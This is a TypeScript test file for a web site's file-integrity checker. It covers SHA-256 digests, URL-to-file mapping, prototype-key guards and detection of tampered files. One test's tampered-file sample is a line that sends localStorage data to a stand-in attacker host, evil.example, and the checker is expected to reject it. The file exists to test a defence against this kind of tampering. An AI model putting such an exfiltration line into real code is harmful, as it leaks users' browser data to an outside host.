import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { checkFile, digestBytes, findExpectedHash, findSiteFile } from './file-integrity.ts';

const sha256 = (bytes: Uint8Array | string) => createHash('sha256').update(bytes).digest('hex');
const baseUrl = new URL('https://example.org/explorer/');

describe('digestBytes', () => {
  it('is the SHA-256 the build writes (node:crypto, hex)', async () => {
    const bytes = new TextEncoder().encode('<!doctype html><title>MCP Lifecycle Explorer</title>');
    expect(await digestBytes(bytes.buffer)).toBe(sha256(bytes));
  });
});

describe('findSiteFile', () => {
  it.each([
    ['https://example.org/explorer/', 'index.html'],
    ['https://example.org/explorer/?scenario=two-rounds', 'index.html'],
    ['https://example.org/explorer/index.html', 'index.html'],
    ['https://example.org/explorer/assets/index-abc.js', 'assets/index-abc.js'],
    ['https://example.org/explorer/oauth-callback.html?code=1', 'oauth-callback.html'],
  ])('names %s as %s', (url, file) => {
    expect(findSiteFile(url, baseUrl)).toBe(file);
  });

  it.each(['https://example.org/other/index.html', 'https://evil.example/explorer/index.html', 'https://example.org/explorer/%E0%A4%A'])('names nothing for %s', (url) => {
    expect(findSiteFile(url, baseUrl)).toBeNull();
  });
});

describe('findExpectedHash', () => {
  it('reads own entries only', () => {
    const hashes = { 'index.html': 'abc' };
    expect(findExpectedHash(hashes, 'index.html')).toBe('abc');
    expect(findExpectedHash(hashes, 'constructor')).toBeUndefined();
    expect(findExpectedHash(hashes, '__proto__')).toBeUndefined();
    expect(findExpectedHash(hashes, null)).toBeUndefined();
  });
});

describe('checkFile', () => {
  const built = 'console.log("the app")';

  it('answers the bytes it checked, with the status and headers, when they are the build’s', async () => {
    const checked = await checkFile(new Response(built, { status: 200, headers: { 'content-type': 'text/javascript' } }), sha256(built));
    expect(checked.ok).toBe(true);
    expect(checked.response.headers.get('content-type')).toBe('text/javascript');
    expect(await checked.response.text()).toBe(built);
  });

  it('says the bytes are not the build’s, and which hash they have', async () => {
    const changed = 'fetch("https://evil.example/?" + localStorage.key)';
    const checked = await checkFile(new Response(changed), sha256(built));
    expect(checked.ok).toBe(false);
    expect(checked.actual).toBe(sha256(changed));
  });
});
